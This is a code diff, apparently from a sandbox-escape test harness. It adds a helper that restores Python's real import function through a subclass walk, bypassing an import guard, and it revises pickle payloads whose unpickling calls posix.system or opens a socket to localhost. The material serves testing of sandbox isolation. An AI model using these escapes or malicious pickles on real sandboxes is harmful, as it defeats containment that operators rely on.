@@ -111,15 +111,17 @@ def _os():
             pass
     raise RuntimeError('no os-like module reachable')
 
+def _unguard():
+    # swap a guarded import hook for importlib's own, found through a subclass walk
+    BG = [c for c in _classes() if c.__name__ == 'ModuleSpec'][0].__init__.__globals__
+    _bi()['__imp' 'ort__'] = BG['__imp' 'ort__']
+    return BG['__imp' 'ort__']
+
 def _imp(name):
     try:
         return _bi()['__imp' 'ort__'](name)
     except BaseException:
-        pass
-    # swap a guarded import hook for importlib's own, found through a subclass walk
-    BG = [c for c in _classes() if c.__name__ == 'ModuleSpec'][0].__init__.__globals__
-    _bi()['__imp' 'ort__'] = BG['__imp' 'ort__']
-    return BG['__imp' 'ort__'](name)
+        return _unguard()(name)
 
 def _sleep(s):
     try:
@@ -178,7 +180,7 @@ def _fx(G, tag='fx'):
     print(tag, R)
 '''
 
-_HELPER_CALL = ("_fx(", "_os(", "_imp(", "_sleep(", "_read(", "_find(", "_classes(", "_bi(", "_connect(")
+_HELPER_CALL = ("_fx(", "_os(", "_imp(", "_unguard(", "_sleep(", "_read(", "_find(", "_classes(", "_bi(", "_connect(")
 
 
 def uses_prelude(code: str) -> bool:
@@ -341,6 +343,10 @@ _fx(vars(type(f)(code, globals())()))
 """),
     _t("pickle_reduce", "python-escape", "canary_read network env_leak", """
 pickle = _imp('pickle')
+try:
+    _unguard()  # pickle's own imports (posix, socket) must not meet an import guard
+except BaseException as e:
+    print(type(e).__name__)
 for blob in ($pickle_system, $pickle_connect):
     try:
         print(pickle.loads(blob))
@@ -846,7 +852,7 @@ def _die_with_parent() -> None:
 def _pickle_blobs(shell: str, port: int) -> tuple[bytes, bytes]:
     # protocol-0 GLOBAL + REDUCE: unpickling calls posix.system / socket.create_connection
     system = b"cposix\nsystem\n(V" + shell.encode() + b"\ntR."
-    connect = b"csocket\ncreate_connection\n((V127.0.0.1\nI%d\ntI1\ntR." % port
+    connect = b"csocket\ncreate_connection\n((C\x09127.0.0.1I%d\ntI1\ntR." % port  # bytes host: no idna
     return system, connect
 
 
